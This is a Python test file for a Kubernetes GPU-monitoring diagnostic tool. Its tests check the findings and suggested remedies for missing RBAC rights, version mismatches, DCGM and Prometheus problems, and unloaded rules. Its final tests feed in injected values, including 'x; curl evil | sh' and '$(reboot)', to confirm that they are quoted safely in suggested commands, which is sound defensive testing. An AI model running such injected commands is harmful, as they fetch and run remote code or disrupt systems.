"""One change to a healthy installation, one finding: its state, its text, what to do."""

from __future__ import annotations

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from gpuatlas.doctor.examine import examine
from gpuatlas.doctor.recordings import GROUPS, STATES
from gpuatlas.doctor.results import Area, Result, State
from gpuatlas.model.checks import MissingInput
from gpuatlas.model.doctor import (
    ClusterFacts,
    DcgmSeries,
    LoadedRule,
    PrometheusFacts,
    SeenCluster,
    SourceSight,
)
from gpuatlas.model.status import SourceStatus
from gpuatlas.model.targets import DCGM
from gpuatlas.sources.catalogue import load_catalogue
from gpuatlas.sources.kubernetes.rights import PROXY
from gpuatlas_harness.doctored import controller, healthy_cluster, healthy_prometheus

NODE = "a10g-1"


def found(
    cluster: ClusterFacts | None = None,
    prometheus: PrometheusFacts | None = None,
    **changes: Any,
) -> list[Result]:
    """What differs from a healthy installation; `changes` are of its Prometheus."""
    server = replace(prometheus or healthy_prometheus(), **changes)
    now = examine(cluster or healthy_cluster(), server, load_catalogue())
    before = examine(healthy_cluster(), healthy_prometheus(), load_catalogue())
    return [result for result in now if result not in before]


def the_one(results: list[Result]) -> tuple[Area, State, str, str]:
    (result,) = results
    text = "" if result.remedy is None else result.remedy.text
    return result.area, result.state, result.text, text


def seen_with(**changes: Any) -> ClusterFacts:
    before = healthy_cluster()
    assert before.seen is not None
    return replace(before, seen=replace(before.seen, **changes))


def observed_with(**changes: Any) -> ClusterFacts:
    before = healthy_cluster().seen
    assert before is not None
    return seen_with(observations=replace(before.observations, **changes))


def healthy_seen() -> SeenCluster:
    found = healthy_cluster().seen
    assert found is not None
    return found


def test_a_healthy_installation_is_fine() -> None:
    results = examine(healthy_cluster(), healthy_prometheus(), load_catalogue())
    assert {result.state for result in results} == {State.OK}
    assert {result.area for result in results} == set(Area)


# The API server


def test_an_api_server_that_does_not_answer_leaves_its_areas_unknown() -> None:
    away = replace(healthy_cluster(), access=replace(healthy_cluster().access, error="refused"))
    results = {result.area: result for result in examine(away, None, load_catalogue())}
    assert results[Area.API_SERVER].state is State.FAILED
    blocked = [results[a] for a in (Area.RIGHTS, Area.VERSIONS, Area.SOURCES, Area.FIELDS)]
    assert {result.state for result in blocked} == {State.UNKNOWN}
    assert {r.text for r in blocked} == {"nothing is known of it without the API server"}


def test_a_server_that_does_not_say_who_we_are() -> None:
    access = replace(healthy_cluster().access, user="", user_error="no SelfSubjectReview")
    assert the_one(found(replace(healthy_cluster(), access=access))) == (
        Area.API_SERVER,
        State.UNKNOWN,
        "the server does not say who you are: no SelfSubjectReview",
        "",
    )


# Rights


def denied(*resources: str, verbs: tuple[str, ...] = (), in_pod: bool = True) -> list[Result]:
    """What the absence of these rights is said to mean; the number of rights is left out."""
    before = healthy_cluster()
    rights = tuple(
        replace(r, allowed=False)
        if r.resource in resources and (not verbs or r.verb in verbs)
        else r
        for r in before.rights
    )
    access = replace(before.access, in_pod=in_pod)
    results = found(replace(before, rights=rights, access=access))
    return [r for r in results if (r.area, r.word) == (Area.RIGHTS, "missing")]


def test_a_right_without_which_nothing_can_be_shown() -> None:
    assert the_one(denied("nodes")) == (
        Area.RIGHTS,
        State.TODO,
        "may not list and watch nodes: nothing can be shown without it; add a rule to the "
        "ClusterRole",
        '- {apiGroups: [""], resources: [nodes], verbs: [list, watch]}',
    )


def test_rights_of_one_group_and_one_meaning_are_one_role_line() -> None:
    assert the_one(denied("daemonsets", "deployments")) == (
        Area.RIGHTS,
        State.OPTIONAL,
        "may not list daemonsets, deployments (apps): checks of the sharing layer that need it "
        "are unknown; add a rule to the ClusterRole",
        "- {apiGroups: [apps], resources: [daemonsets, deployments], verbs: [list]}",
    )


def test_what_is_got_by_name_is_granted_where_the_layer_is() -> None:
    _, state, text, line = the_one(denied("leases"))
    assert state is State.OPTIONAL
    assert text.startswith("may not get leases (coordination.k8s.io) in namespace hami-system: ")
    assert text.endswith("; add a rule to the Role in hami-system")
    assert line == "- {apiGroups: [coordination.k8s.io], resources: [leases], verbs: [get]}"


@pytest.mark.parametrize(
    ("in_pod", "state", "cost"),
    [
        (True, State.TODO, "gpuatlas serve cannot follow changes without it"),
        (False, State.OPTIONAL, "only gpuatlas serve needs it, to follow changes"),
    ],
)
def test_watching_matters_to_the_exporter(*, in_pod: bool, state: State, cost: str) -> None:
    _, said, text, _ = the_one(denied("pods", verbs=("watch",), in_pod=in_pod))
    assert said is state
    assert text == f"may not watch pods: {cost}; add a rule to the ClusterRole"


def test_the_pod_proxy_is_needed_where_pages_come_through_it() -> None:
    before = healthy_cluster()
    proxy = replace(PROXY, allowed=False)
    results = found(replace(before, rights=(*before.rights, proxy)))
    _, state, text, line = the_one([r for r in results if r.word == "missing"])
    assert (state, line) == (
        State.TODO,
        '- {apiGroups: [""], resources: [pods/proxy], verbs: [get]}',
    )
    assert "memory and compute in use are unknown" in text


def test_rights_that_nobody_told_of_are_unknown() -> None:
    before = healthy_cluster()
    rights = tuple(replace(r, allowed=None, reason="HTTP 500") for r in before.rights)
    (result,) = found(replace(before, rights=rights))
    assert result.state is State.UNKNOWN
    assert result.text == (
        "whether you may list nodes, watch nodes, list pods, watch pods and 11 more: HTTP 500"
    )


# Versions


@pytest.mark.parametrize(
    ("version", "state", "text"),
    [
        ("v1.26.1", State.TODO, "Kubernetes is too old: v1.26.1; supported are 1.27 to 1.37"),
        (
            "v1.38.0",
            State.UNKNOWN,
            "Kubernetes is newer than what was tried: v1.38.0; supported are 1.27 to 1.37",
        ),
        (
            "",
            State.UNKNOWN,
            "Kubernetes: no release can be told from ?; supported are 1.27 to 1.37",
        ),
    ],
)
def test_kubernetes(version: str, state: State, text: str) -> None:
    access = replace(healthy_cluster().access, version=version)
    remedy = "Kubernetes 1.27 to 1.37" if state is State.TODO else ""
    results = found(replace(healthy_cluster(), access=access))
    assert the_one(results) == (Area.VERSIONS, state, text, remedy)


@pytest.mark.parametrize(
    ("tag", "state", "what"),
    [
        ("v2.3.13", State.TODO, "HAMi is too old"),
        ("v2.11.0", State.UNKNOWN, "HAMi is newer than what was tried"),
        ("latest", State.UNKNOWN, "HAMi: no release can be told from"),
    ],
)
def test_hami(tag: str, state: State, what: str) -> None:
    layer = healthy_seen().observations.layer
    plugin = controller("DaemonSet", "hami-device-plugin", tag)
    _, said, text, _ = the_one(found(observed_with(layer=replace(layer, controllers=(plugin,)))))
    assert said is state
    assert text.startswith(what)
    assert f"DaemonSet/hami-system/hami-device-plugin docker.io/projecthami/hami:{tag}" in text


def test_hami_that_could_not_be_looked_for_is_unknown() -> None:
    layer = replace(
        healthy_seen().observations.layer, controllers=(), unread={"daemonsets.apps": "403"}
    )
    results = found(observed_with(layer=layer, monitors=(), schedulers=()))
    (version,) = [result for result in results if result.area is Area.VERSIONS]
    assert (version.state, version.text) == (State.UNKNOWN, "whether HAMi runs here: 403")


def test_a_node_that_tells_no_driver() -> None:
    snapshot = healthy_seen().snapshot
    nodes = {name: replace(n, driver_version="") for name, n in snapshot.nodes.items()}
    assert the_one(found(seen_with(snapshot=replace(snapshot, nodes=nodes)))) == (
        Area.VERSIONS,
        State.UNKNOWN,
        f"driver of {NODE}: neither a label of the node nor a page of dcgm-exporter tells it",
        "",
    )


# Sources and fields


def test_a_page_that_failed_says_why() -> None:
    cluster = observed_with(silent={(DCGM, NODE): "HTTP 500 from 10.1.0.9:9400"})
    assert the_one(found(cluster)) == (
        Area.SOURCES,
        State.TODO,
        f"no dcgm page of {NODE}: HTTP 500 from 10.1.0.9:9400",
        "kubectl get pods -A -o wide | grep dcgm-exporter",
    )


def test_nvidias_cards_without_an_exporter() -> None:
    before = healthy_seen()
    pods = {
        uid: pod
        for uid, pod in before.observations.pods.items()
        if not any("dcgm" in container.image for container in pod.containers)
    }
    statuses = tuple(status for status in before.statuses if status.source != DCGM)
    cluster = seen_with(
        observations=replace(before.observations, dcgm=(), pods=pods), statuses=statuses
    )
    results = {(result.area, result.state): result for result in found(cluster)}
    assert results[Area.SOURCES, State.TODO].text == (
        "1 node with NVIDIA's cards and no dcgm-exporter: memory and compute in use are unknown, "
        "and H01-H12 cannot look"
    )
    assert results[Area.FIELDS, State.UNKNOWN].text == "no page of dcgm-exporter was read"
    assert results[Area.VERSIONS, State.NOT_APPLICABLE].text == "no dcgm-exporter here"


def test_a_cluster_without_cards() -> None:
    before = healthy_seen()
    cluster = seen_with(
        observations=replace(before.observations, nodes={}, pods={}, dcgm=(), silent={}),
        snapshot=replace(before.snapshot, nodes={}),
        statuses=(),
    )
    results = [result for result in found(cluster) if result.area is Area.SOURCES]
    assert [(r.word, r.state) for r in results] == [
        ("cards", State.TODO),
        ("layers", State.NOT_APPLICABLE),
        ("dcgm", State.NOT_APPLICABLE),
    ]
    assert results[0].text.startswith("no node offers cards: no device plugin or DRA driver runs")


def failing(source: str, error: str) -> SourceStatus:
    return SourceStatus(
        source=source,
        up=False,
        last_success_at=None,
        read_seconds=None,
        error=error,
        targets={},
        rejected={},
    )


def test_a_prometheus_of_several_clusters_wants_a_matcher() -> None:
    others = tuple(s for s in healthy_seen().statuses if s.source != DCGM)
    error = "http://prometheus:9090 holds several clusters (a, b …)"
    area, state, text, remedy = the_one(found(seen_with(statuses=(*others, failing(DCGM, error)))))
    assert (area, state, text) == (Area.SOURCES, State.TODO, f"no dcgm pages: {error}")
    assert remedy == "--prometheus-matcher cluster=NAME (in the chart: prometheus.matchers)"


def test_objects_that_failed_for_another_reason_than_a_right() -> None:
    statuses = (*healthy_seen().statuses, failing("kubernetes-discovery", "HTTP 503"))
    assert the_one(found(seen_with(statuses=statuses))) == (
        Area.SOURCES,
        State.UNKNOWN,
        "kubernetes-discovery: HTTP 503",
        "",
    )


def test_fields_that_no_page_has_name_their_checks() -> None:
    missing = (
        MissingInput(check="H10", input="DCGM_FI_DEV_PCIE_LINK_WIDTH", reason="off"),
        MissingInput(check="H03", input="DCGM_FI_DEV_ECC_DBE_VOL_TOTAL", reason="off"),
    )
    # By the pages, where the rules say nothing.
    area, state, text, remedy = the_one(
        [r for r in found(seen_with(missing=missing), recorded=frozenset()) if r.word == "fields"]
    )
    assert (area, state) == (Area.FIELDS, State.OPTIONAL)
    assert text.endswith(
        ": H03 lacks DCGM_FI_DEV_ECC_DBE_VOL_TOTAL, H10 lacks DCGM_FI_DEV_PCIE_LINK_WIDTH"
    )
    assert remedy.startswith("dcgmCounters.enabled=true in our chart")
    assert "alerts/dcgm-counters.csv" in remedy


def test_fields_that_the_rules_miss_come_first() -> None:
    _, state, text, _ = the_one(found(blind=(("H02", "DCGM_EXP_XID_ERRORS_COUNT"), ("S08", "x"))))
    assert state is State.OPTIONAL
    assert text.endswith(": H02 lacks DCGM_EXP_XID_ERRORS_COUNT")


def test_fields_that_the_rules_could_not_be_asked_for_are_told_by_the_pages() -> None:
    lack = MissingInput(check="H10", input="DCGM_FI_DEV_PCIE_LINK_WIDTH", reason="off")
    results = found(seen_with(missing=(lack,)), blind=None, unread={"blind": "HTTP 500"})
    assert [(r.word, r.state) for r in results] == [("fields", State.OPTIONAL)]
    assert results[0].text.endswith(": H10 lacks DCGM_FI_DEV_PCIE_LINK_WIDTH")


# The Prometheus

PROMETHEUS: Mapping[str, tuple[dict[str, Any], Area, State, str, str]] = {
    "too old": (
        {"version": "2.41.0"},
        Area.PROMETHEUS,
        State.TODO,
        "Prometheus 2.41.0; 2.42 or newer is needed",
        "a Prometheus of 2.42 or newer",
    ),
    "no release": (
        {"version": ""},
        Area.PROMETHEUS,
        State.UNKNOWN,
        "its release is not told (it is another program that speaks its API); 2.42 or newer is "
        "needed",
        "",
    ),
    "renamed": (
        {"renamed": {"pods": ("exported_pod",)}},
        Area.SCRAPE,
        State.TODO,
        "job pods renames our labels to exported_pod: what is shown as pod and node is the "
        "exporter's own",
        "honorLabels: true in its ServiceMonitor (honor_labels in a plain scrape job)",
    ),
    "no DCGM series": (
        {"dcgm": DcgmSeries()},
        Area.SCRAPE,
        State.TODO,
        "no DCGM series, and nodes offer NVIDIA's cards: H01-H12 and the boards lack them",
        "dcgmExporter.serviceMonitor.enabled=true in the GPU Operator (serviceMonitor.enabled in "
        "dcgm-exporter's chart)",
    ),
    "DCGM without nodes": (
        {"dcgm": DcgmSeries(series=4, nodeless=1, pods=3)},
        Area.SCRAPE,
        State.TODO,
        "1 of 4 DCGM series name no node (Hostname, hostname or node)",
        "no metricRelabelings that drop Hostname in dcgm-exporter's ServiceMonitor",
    ),
    "DCGM without pods": (
        {"dcgm": DcgmSeries(series=4, nodeless=0, pods=0)},
        Area.SCRAPE,
        State.OPTIONAL,
        "DCGM series name no pod, though pods hold cards: alerts cannot list who is hit",
        "DCGM_EXPORTER_KUBERNETES=true in dcgm-exporter's environment",
    ),
    "no Alertmanager": (
        {"alertmanagers": 0},
        Area.RULES,
        State.OPTIONAL,
        "the Prometheus knows no Alertmanager: alerts are on the boards and reach nobody",
        "alerting.alertmanagers of the Prometheus to an Alertmanager (alerts/alertmanager/)",
    ),
    "Alertmanager unknown": (
        {"alertmanagers": None, "unread": {"alertmanagers": "HTTP 404"}},
        Area.RULES,
        State.UNKNOWN,
        "whether alerts reach an Alertmanager: HTTP 404",
        "",
    ),
    "few days": (
        {"history_days": 1},
        Area.HISTORY,
        State.UNKNOWN,
        "1 day recorded, 7 are needed: until then gpuatlas sizing says that it cannot size",
        "",
    ),
    "enough days": (
        {"history_days": 7},
        Area.HISTORY,
        State.OK,
        "7 days recorded: enough to size, 14 are better",
        "",
    ),
    "a source that is down": (
        {
            "sources": (
                SourceSight(source="hami-monitor", up=False, namespace="gpu", pod="gpuatlas-0"),
            )
        },
        Area.EXPORTER,
        State.TODO,
        "the exporter gpu/gpuatlas-0 cannot read hami-monitor; its log says why",
        "kubectl -n gpu logs gpuatlas-0 | grep hami-monitor",
    ),
    "no source states": (
        {"sources": ()},
        Area.EXPORTER,
        State.UNKNOWN,
        "no gpuatlas_source_up: no exporter says what it can read",
        "",
    ),
}


@pytest.mark.parametrize("name", PROMETHEUS)
def test_what_a_prometheus_can_lack(name: str) -> None:
    changes, *expected = PROMETHEUS[name]
    assert the_one(found(**changes)) == tuple(expected)


@pytest.mark.parametrize(
    "field", ["exporters", "renamed", "holders", "dcgm", "history_days", "alertmanagers", "sources"]
)
def test_a_question_without_an_answer_is_unknown_with_its_reason(field: str) -> None:
    changes: dict[str, Any] = {field: None, "unread": {field: f"HTTP 500 for {field}"}}
    results = found(**changes)
    assert results
    assert {result.state for result in results} == {State.UNKNOWN}
    assert any(f"HTTP 500 for {field}" in result.text for result in results)


def test_an_exporter_that_is_not_scraped() -> None:
    results = found(exporters=(), sources=())
    assert [(r.word, r.state) for r in results] == [
        ("gpuatlas", State.TODO),
        ("labels", State.UNKNOWN),
        ("sources", State.UNKNOWN),
    ]
    assert results[0].text == (
        "there is no gpuatlas_build_info: this Prometheus does not scrape gpuatlas serve"
    )


def test_an_exporter_that_is_scraped_twice() -> None:
    exporters = healthy_prometheus().exporters
    assert exporters is not None
    again = replace(exporters[0], job="kubernetes-services")
    shard = replace(exporters[0], pod="gpuatlas-1-x", instance="10.1.0.8:9836")
    assert the_one(found(exporters=(*exporters, again))) == (
        Area.SCRAPE,
        State.TODO,
        "the same gpuatlas is scraped by jobs gpuatlas, kubernetes-services: every sum counts it "
        "twice",
        "scrape.by=none in our chart, or remove the other job",
    )
    assert {r.state for r in found(exporters=(*exporters, shard))} == {State.OK}


@pytest.mark.parametrize("named", [("", ""), ("gpuatlas-0-x", "")])
def test_an_exporter_that_is_scraped_twice_by_jobs_that_name_no_pod(
    named: tuple[str, str],
) -> None:
    """As the job of docs/install.md and one that goes by annotations."""
    exporters = healthy_prometheus().exporters
    assert exporters is not None
    jobs = ("gpuatlas", "kubernetes-service-endpoints")
    both = [
        replace(exporters[0], job=job, namespace="", pod=pod)
        for job, pod in zip(jobs, named, strict=True)
    ]
    result, *_ = found(exporters=tuple(both))
    assert (result.word, result.state) == ("gpuatlas", State.TODO)
    assert "jobs gpuatlas, kubernetes-service-endpoints" in result.text
    # Pods of two clusters may have one address.
    apart = [replace(one, pod=f"gpuatlas-{at}") for at, one in enumerate(both)]
    assert {r.state for r in found(exporters=tuple(apart))} == {State.OK}


def test_a_namespace_that_is_written_over_all_others() -> None:
    """enforcedNamespaceLabel comes after the scrape: there are no labels exported_…."""
    own = frozenset({"gpu-monitoring"})
    real = {a.namespace for n in healthy_seen().snapshot.nodes.values() for a in n.allocations}
    assert real
    assert not real & own
    area, state, text, remedy = the_one(found(holders=own))
    assert (area, state) == (Area.SCRAPE, State.TODO)
    assert text.startswith("all pods on cards have the exporter's own namespace gpu-monitoring")
    assert "excludedFromEnforcement" in remedy
    # What is not known, what is there besides, and nothing at all are no findings.
    for holders in (None, frozenset(), own | real, frozenset({"of-a-minute-ago"})):
        assert found(holders=holders) == []


def test_an_exporter_that_has_gone() -> None:
    first, *_ = found(exporters=(), gone=("gpuatlas",))
    assert first.text.startswith("gpuatlas_build_info of job gpuatlas was there within a day")
    assert first.remedy is not None
    assert first.remedy.text == "kubectl get pods -A -l app.kubernetes.io/name=gpuatlas"


# Rules


def rules_without(*names: str) -> tuple[LoadedRule, ...]:
    rules = healthy_prometheus().rules
    assert rules is not None
    return tuple(r for r in rules if not {r.group, r.name, r.check} & set(names))


def of_rules(*, word: str, **changes: Any) -> list[tuple[State, str]]:
    return [(r.state, r.text) for r in found(**changes) if (r.area, r.word) == (Area.RULES, word)]


def test_a_group_that_is_not_loaded() -> None:
    rules = rules_without("worth", "daily", "check-fields-of-links")
    assert of_rules(word="recordings", rules=rules) == [
        (
            State.TODO,
            "groups of recording rules that are not loaded (3 of 33): daily, worth, "
            "check-fields-of-links",
        )
    ]


def test_groups_count_by_what_they_record_too() -> None:
    rules = rules_without(GROUPS["card"])
    renamed = LoadedRule(group="gpuatlas-recording-rules-card;card", name=GROUPS["card"])
    assert of_rules(word="recordings", rules=(*rules, renamed)) == []


def test_no_rules_at_all() -> None:
    foreign = (LoadedRule(group="node", name="node:load:sum"),)
    nothing: dict[str, Any] = {"rules": foreign, "recorded": frozenset()}
    assert of_rules(word="recordings", **nothing) == [
        (State.TODO, "no group of our recording rules is loaded: boards and sizing are empty")
    ]
    assert of_rules(word="alerts", **nothing) == [
        (State.TODO, f"no alert of alerts/{layer}.yaml is loaded")
        for layer in ("hardware", "sharing", "operations", "meta")
    ]
    assert of_rules(word="evaluation", **nothing) == []


def test_checks_that_are_switched_off_could_be_on() -> None:
    states = of_rules(word="alerts", rules=rules_without("H05", "H06"))
    assert (State.OPTIONAL, "alerts of these checks are not loaded: H05, H06") in states


def test_a_rule_that_fails() -> None:
    rules = rules_without(GROUPS["card"])
    broken = LoadedRule(group="card", name=GROUPS["card"], error="many-to-many matching")
    assert of_rules(word="evaluation", rules=(*rules, broken)) == [
        (
            State.TODO,
            f"rules of ours that fail (1), such as {GROUPS['card']} (group card): many-to-many "
            "matching",
        )
    ]


def test_rules_of_others_that_fail_are_not_ours() -> None:
    foreign = LoadedRule(group="node", name="node:load:sum", error="parse error")
    assert found(rules=(*rules_without(), foreign)) == []


def test_a_server_that_does_not_list_its_rules_is_judged_by_what_they_recorded() -> None:
    unread = {"rules": "HTTP 404"}
    some = frozenset({STATES, GROUPS["card"]})
    results = of_rules(word="recordings", rules=None, recorded=some, unread=unread)
    assert results[0] == (State.OK, "2 of 33 groups of recording rules have series")
    assert results[1][0] is State.UNKNOWN
    assert results[1][1].startswith("not loaded, or nothing to record so far: normalise, ")
    assert of_rules(word="alerts", rules=None, unread=unread) == [
        (State.UNKNOWN, "whether the alerts are loaded and which rules fail: HTTP 404")
    ]


@pytest.mark.parametrize("listed", [(), (LoadedRule(group="node", name="node:load:sum"),)])
def test_rules_that_another_program_evaluates_are_judged_by_what_they_recorded(
    listed: tuple[LoadedRule, ...],
) -> None:
    """VictoriaMetrics answers /api/v1/rules with an empty list: vmalert has the rules."""
    everything = frozenset(GROUPS.values())
    assert of_rules(word="recordings", rules=listed, recorded=everything) == [
        (State.OK, "33 of 33 groups of recording rules have series")
    ]
    assert of_rules(word="alerts", rules=listed, recorded=everything) == [
        (
            State.UNKNOWN,
            "whether the alerts are loaded and which rules fail: the server lists none of our "
            "rules; whatever evaluates them has to be asked",
        )
    ]


def test_without_any_recorded_series_the_rules_are_not_loaded() -> None:
    results = of_rules(word="recordings", rules=None, recorded=frozenset())
    assert results == [
        (State.TODO, "there is no series of our recording rules: they are not loaded")
    ]
    unknown = of_rules(word="recordings", rules=None, recorded=None, unread={"recorded": "502"})
    assert unknown == [(State.UNKNOWN, "502")]


def test_recordings_without_the_states_of_the_checks() -> None:
    results = of_rules(word="recordings", rules=None, recorded=frozenset({GROUPS["card"]}))
    assert results[0] == (State.TODO, f"no {STATES}: the rules of check.yaml are not loaded")


# Strangers' words in commands


def test_a_label_of_a_strangers_page_is_no_part_of_a_command() -> None:
    sight = SourceSight(source="x; curl evil | sh", up=False, namespace="a b", pod="$(reboot)")
    (result,) = found(sources=(sight,))
    assert result.remedy is not None
    assert shlex.split(result.remedy.text) == [
        *("kubectl", "-n", "a b", "logs", "$(reboot)", "|", "grep", "x; curl evil | sh")
    ]
    assert "'$(reboot)'" in result.remedy.text
    (elsewhere,) = found(sources=(replace(sight, pod=""),))
    assert elsewhere.remedy is not None
    assert elsewhere.remedy.text.endswith("| grep 'x; curl evil | sh'")


def test_the_name_of_a_strangers_group_is_no_part_of_a_command() -> None:
    rules = rules_without()
    broken = LoadedRule(group="g\nreboot", name=GROUPS["card"], error="many-to-many")
    (result,) = found(rules=(*rules, broken))
    assert result.remedy is not None
    assert result.remedy.text == "promtool check rules recording_rules/*.yaml"
